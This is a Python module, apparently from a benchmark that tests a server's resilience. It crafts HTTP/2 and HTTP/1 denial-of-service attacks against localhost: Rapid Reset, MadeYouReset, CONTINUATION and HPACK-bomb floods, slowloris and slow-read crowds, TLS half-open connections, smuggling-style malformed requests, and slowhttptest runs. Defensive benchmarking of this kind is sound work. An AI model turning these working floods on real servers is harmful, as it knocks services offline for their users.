"""The attacks of the hostile benchmark: floods, and crowds of slow clients, over raw sockets.

Frames of HTTP/2 are made by hand, as no proper client would send these. Whatever an attack
asks for has `attack` in its path, so that the node knows it.
"""

import contextlib
import selectors
import socket
import ssl
import struct
import subprocess
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from typing import Callable

PROCESSES = 2  # that attack at a time
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAME_SIZE = 16384
CHUNK = 256 << 10  # what one send takes
STREAMS = 5000  # on one connection that has them reset; then a new one


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A field that no table keeps; the name is text or its place in HPACK's static table."""
    if isinstance(name, int):
        # Four bits of the first byte are for the place; what is over 14 goes into the next.
        start = bytes([name]) if name < 15 else bytes([15, name - 15])
    else:
        start = b"\0" + string(name)
    return start + string(value)


def string(text):
    """HPACK's form of a string, up to 127 + 16383 bytes."""
    if len(text) < 127:
        return bytes([len(text)]) + text
    more = len(text) - 127
    return bytes([127, more & 127 | 128, more >> 7]) + text


def request(path, post=False):
    """The fields of a request: method, scheme, path, authority."""
    return (b"\x83" if post else b"\x82") + b"\x86" + literal(4, path) + literal(1, b"bench")


OPENING = PREFACE + frame(SETTINGS, 0, 0)


@dataclass
class Wire:
    """What one connection of a flood sends: the opening, then the batch again and again."""

    opening: bytes
    batch: bytes
    units: int  # frames or streams in the batch
    once: bool = False  # stream ids cannot be used again: a new connection after one batch


def per_stream(make):
    """A batch that does the same to one stream after another."""
    batch = b"".join(make(2 * number + 1) for number in range(STREAMS))
    return Wire(OPENING, batch, STREAMS, once=True)


def rapid_reset():
    """CVE-2023-44487: requests taken back at once, which no limit on open streams sees."""
    head, cancel = request(b"/attack/reset"), struct.pack(">I", 8)
    return [per_stream(lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, head)
                       + frame(RST_STREAM, 0, stream, cancel))]


def made_you_reset():
    """CVE-2025-8671: the same, but frames that are wrong make the server do the reset."""
    head = request(b"/attack/made")
    return [per_stream(lambda stream, step=step: frame(HEADERS, END_STREAM | END_HEADERS, stream, head)
                       + frame(WINDOW_UPDATE, 0, stream, step))
            for step in (b"\0\0\0\0", b"\x7f\xff\xff\xff")]


def continuation():
    """CVE-2024-27316: a head that never ends, of empty frames or of ever more fields."""
    opening = OPENING + frame(HEADERS, END_STREAM, 1, request(b"/attack/continuation"))
    padding = literal(b"x-padding", b"p" * 80) * 40
    return [Wire(opening, frame(CONTINUATION, 0, 1) * 5000, 5000),
            Wire(opening, frame(CONTINUATION, 0, 1, padding) * 50, 50)]


def frames(each, opening=OPENING, repeat=2500):
    """The same few frames for ever, on two connections."""
    return [Wire(opening, b"".join(each) * repeat, len(each) * repeat)] * 2


def settings():
    """Each of them moves the window of every stream, and wants an answer."""
    return frames([frame(SETTINGS, 0, 0, struct.pack(">HI", 4, size)) for size in (65535, 65536)])


def priority():
    return frames([frame(PRIORITY, 0, 2 * number + 1, struct.pack(">IB", 0, 15))
                   for number in range(100)], repeat=50)


def empty_data():
    """CVE-2019-9518: pieces of a body that bring nothing."""
    opening = OPENING + frame(HEADERS, END_HEADERS, 1, request(b"/attack/empty", post=True))
    return frames([frame(DATA, 0, 1)], opening)


def hpack_bomb():
    """One field of 4,000 bytes in the table; each byte of the requests is another copy of it."""
    head = request(b"/attack/bomb")
    plant = head + b"\x40" + string(b"x-bomb") + string(b"b" * 4000)
    bombs = [frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1,
                   (head if number else plant) + b"\xbe" * 12000) for number in range(100)]
    return [Wire(OPENING, b"".join(bombs), 100, once=True)]


def crumbs():
    """Thousands of cookie fields in a request, which one line of HTTP/1 has to take."""
    fields, batch = request(b"/attack/crumbs") + literal(32, b"a=b") * 3000, []
    for stream in range(1, 201, 2):
        batch.append(frame(HEADERS, END_STREAM, stream, fields[:FRAME_SIZE]))
        batch.append(frame(CONTINUATION, END_HEADERS, stream, fields[FRAME_SIZE:]))
    head = b"GET /attack/crumbs HTTP/1.1\r\nHost: bench\r\n" + b"Cookie: a=b\r\n" * 3000 + b"\r\n"
    return [Wire(OPENING, b"".join(batch), 100, once=True), Wire(b"", head, 1, once=True)]


def connect(port, blocking=True, receive=None):
    client = socket.socket()
    if receive:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
    client.settimeout(2)
    try:
        client.connect(("127.0.0.1", port))
    except OSError:
        client.close()
        time.sleep(0.01)  # no port or no room: not a reason to spin
        raise
    client.setblocking(blocking)
    return client


class Line:
    """One connection of a flood."""

    def __init__(self, port, wire, reads):
        self.wire, self.reads, self.at = wire, reads, 0
        # The batch comes after the opening.
        self.is_batch, self.data = not wire.opening, memoryview(wire.opening or wire.batch)
        self.socket = socket.socket()
        # Little is on its way, so that what counts as sent is what the server took.
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, CHUNK // 4)
        self.socket.setblocking(False)
        self.socket.connect_ex(("127.0.0.1", port))  # a failure shows in the first send
        self.events = selectors.EVENT_WRITE | (selectors.EVENT_READ if reads else 0)

    def step(self, ready):
        """Send and read what is possible; returns how many units went out."""
        if ready & selectors.EVENT_READ and not self.socket.recv(CHUNK):
            raise ConnectionResetError
        if not ready & self.events & selectors.EVENT_WRITE:
            return 0
        before = self.at
        self.at += self.socket.send(self.data[before:before + CHUNK])
        units, size = self.wire.units if self.is_batch else 0, len(self.data)
        done = units * self.at // size - units * before // size
        if self.at == size and self.is_batch and self.wire.once:
            # The server closes it when it is through with all of it.
            self.socket.shutdown(socket.SHUT_WR)
            self.events = selectors.EVENT_READ
        elif self.at == size:
            self.is_batch, self.data, self.at = True, memoryview(self.wire.batch), 0
        return done


class Flood:
    """Connections kept full, and replaced when they end; every other one reads the answers."""

    def __init__(self, port, wires):
        self.port, self.selector = port, selectors.DefaultSelector()
        self.connections = self.units = 0
        for wire in wires:
            for reads in (False, True):
                self.open(wire, reads)

    def run(self, until):
        while time.monotonic() < until:
            for key, ready in self.selector.select(0.1):
                self.step(key.data, ready)
        for key in list(self.selector.get_map().values()):
            key.fileobj.close()
        return {"connections": self.connections, "sent": self.units}

    def open(self, wire, reads):
        line = Line(self.port, wire, reads)
        self.selector.register(line.socket, line.events, line)
        self.connections += 1

    def step(self, line, ready):
        events = line.events
        try:
            self.units += line.step(ready)
            if line.events != events:
                self.selector.modify(line.socket, line.events, line)
        except BlockingIOError:
            pass
        except OSError:
            self.selector.unregister(line.socket)
            line.socket.close()
            if not line.is_batch and not line.at:
                time.sleep(0.001)  # not even the connect went well
            self.open(line.wire, line.reads)


def flood(make):
    return lambda ports, until, _: Flood(ports["http"], make()).run(until)


@dataclass
class Crowd:
    """Many connections that each do next to nothing, and come back when they are cut."""

    size: int
    opening: Callable = lambda number: b""
    drip: bytes = b""  # a byte of it a second, over and over
    reads: bool = False  # a byte a second, out of a small window
    listener: str = "http"

    def run(self, ports, until, _process):
        # Silent ones wake up when they are cut; those that read are only looked at in their turn.
        self.selector, self.until = selectors.DefaultSelector(), until
        self.port, self.connections = ports[self.listener], 0
        members = [{"number": number, "socket": None} for number in range(self.size // PROCESSES)]
        tick = 0
        while time.monotonic() < until:
            end = min(time.monotonic() + 1, until)
            for member in members:
                self.step(member, tick)
            while (left := end - time.monotonic()) > 0:
                for key, _ in self.selector.select(left):
                    self.step(key.data)
            tick += 1
        for member in members:
            self.end(member)
        return {"connections": self.connections, "sent": self.connections}

    def step(self, member, tick=None):
        """Its turn in this second or, without a tick, a time when there is something to read."""
        try:
            if member["socket"] is None:
                self.open(member)
            elif tick is None or self.reads:
                if not member["socket"].recv(1 if self.reads else CHUNK):
                    self.end(member)
                    self.open(member)
            elif self.drip:
                member["socket"].send(self.drip[tick % len(self.drip):][:1])
        except BlockingIOError:
            pass
        except OSError:
            self.end(member)

    def open(self, member):
        if time.monotonic() < self.until:
            client = connect(self.port, blocking=False, receive=2048 if self.reads else None)
            member["socket"] = client
            self.connections += 1
            if not self.reads:
                self.selector.register(client, selectors.EVENT_READ, member)
            client.send(self.opening(member["number"]))

    def end(self, member):
        if member["socket"] is not None:
            if not self.reads:
                self.selector.unregister(member["socket"])
            member["socket"].close()
            member["socket"] = None


def churn(once, listener="http", threads=4):
    """One short connection after another."""
    def attack(ports, until, _):
        counts = [0] * threads

        def work(slot):
            while time.monotonic() < until:
                with contextlib.suppress(OSError), connect(ports[listener]) as client:
                    counts[slot] += 1
                    once(client, counts[slot])

        with ThreadPoolExecutor(threads) as pool:
            list(pool.map(work, range(threads)))
        return {"connections": sum(counts), "sent": sum(counts)}
    return attack


def client_hello():
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl._create_unverified_context()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
    return outgoing.read()


HELLO = client_hello()
FIELDS = b"HTTP/1.1\r\nHost: bench\r\n"
MALFORMED = (
    b"GET\r\n\r\n", b"\0\1\2\3\r\n\r\n", HELLO, b"GET /attack HTTP/9.9\r\n\r\n",
    b"GET /attack HTTP/1.1\r\n\r\n", b"GET /at tack HTTP/1.1\r\nHost: bench\r\n\r\n",
    b"GET /attack " + FIELDS + b"Host: other\r\n\r\n", b"GET /attack " + FIELDS + b"no colon\r\n\r\n",
    b"GET /attack " + FIELDS + b" folded: 1\r\n\r\n", b"GET /attack " + FIELDS + b"a\0b: 1\r\n\r\n",
    b"POST /attack " + FIELDS + b"Content-Length: -1\r\n\r\n",
    b"POST /attack " + FIELDS + b"Content-Length: 1\r\nContent-Length: 2\r\n\r\n",
    b"POST /attack " + FIELDS + b"Transfer-Encoding: chunked, chunked\r\n\r\n",
    b"GET /attack " + FIELDS + b"X: " + b"x" * 70_000 + b"\r\n\r\n",
    b"GET /attack " + FIELDS + b"X: x\r\n" * 1000 + b"\r\n",
)


def malformed(client, number):
    client.sendall(MALFORMED[number % len(MALFORMED)])
    client.recv(CHUNK)


def come_and_go(client, number):
    if number % 2:  # every other one ends with a reset
        client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


def abandon(client, _):
    client.sendall(HELLO)
    client.recv(CHUNK)  # the server has signed by now


def slow_tool(*flags, path):
    """slowhttptest in one of its modes, again when it gives up early."""
    def attack(ports, until, process):
        runs = 0
        while process == 0 and (left := until - time.monotonic()) > 0:
            runs += 1
            command = ["slowhttptest", "-c", "500", "-r", "500", "-i", "1", "-l", str(int(left) + 1),
                       *flags, "-u", f"http://127.0.0.1:{ports['http']}{path}"]
            with contextlib.suppress(subprocess.TimeoutExpired):
                subprocess.run(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                               stderr=subprocess.DEVNULL, timeout=left)
            time.sleep(0.05)
        return {"connections": 500 * runs, "sent": 500 * runs}
    return attack


@dataclass
class Attack:
    run: Callable  # called with the ports, the time of its end, and the process's number
    # What the node may see of it, by its counts.
    allowed: Callable = lambda found: 0
    tool: str = ""


def part(share):
    return lambda found: share * found["sent"]


def one_each(found):
    """The body of a request streams, so that a slow one shows its head to the node."""
    return found["connections"]


def burn(_ports, until, _process):
    """No attack at all, only the CPU that one takes from the others here."""
    rounds = 0
    while time.monotonic() < until:
        rounds += 1
    return {"connections": 0, "sent": rounds}


SLOW_HEAD = b"GET /attack/slow " + FIELDS + b"X-Slow: "
SLOW_BODY = b"POST /attack/body " + FIELDS + b"Content-Length: 8192\r\n\r\n"
BIG = b"GET /attack/big " + FIELDS + b"\r\n"
TOOL = "slowhttptest"  # it sends a request of its own now and then, to see whether it succeeds
READ_SLOWLY = ("-X", "-w", "512", "-y", "1024", "-n", "1", "-z", "32")
ATTACKS = {
    "control": Attack(burn),
    "rapid-reset": Attack(flood(rapid_reset), part(0.05)),
    "made-you-reset": Attack(flood(made_you_reset)),
    "continuation": Attack(flood(continuation)),
    "ping": Attack(flood(lambda: frames([frame(PING, 0, 0, b"ringring")]))),
    "settings": Attack(flood(settings)),
    "priority": Attack(flood(priority)),
    "empty-data": Attack(flood(empty_data), one_each),
    "window-update": Attack(flood(lambda: frames([frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1")]))),
    "hpack-bomb": Attack(flood(hpack_bomb)),
    "crumbs": Attack(flood(crumbs)),
    "malformed": Attack(churn(malformed)),
    "connections": Attack(churn(come_and_go)),
    "idle": Attack(Crowd(2000).run),
    "slowloris": Attack(Crowd(1000, lambda _: SLOW_HEAD[:1], SLOW_HEAD[1:]).run),
    "slow-body": Attack(Crowd(500, lambda _: SLOW_BODY, b"b").run, one_each),
    "slow-read": Attack(Crowd(200, lambda _: BIG, reads=True).run, one_each),
    "tls-abandoned": Attack(churn(abandon, "https")),
    # Half of them say hello and no more, the others not even that to its end.
    "tls-half-open": Attack(
        Crowd(1000, lambda number: HELLO[:len(HELLO) // (1 + number % 2)], listener="https").run),
    "slowhttptest-H": Attack(slow_tool("-H", path="/attack/slow"), part(0.02), TOOL),
    "slowhttptest-B": Attack(slow_tool("-B", "-s", "8192", path="/attack/body"), part(1.02), TOOL),
    "slowhttptest-X": Attack(slow_tool(*READ_SLOWLY, path="/cached/attack/read"), part(0.02), TOOL),
    "slowhttptest-R": Attack(slow_tool("-R", path="/cached/attack/range"), part(0.02), TOOL),
}
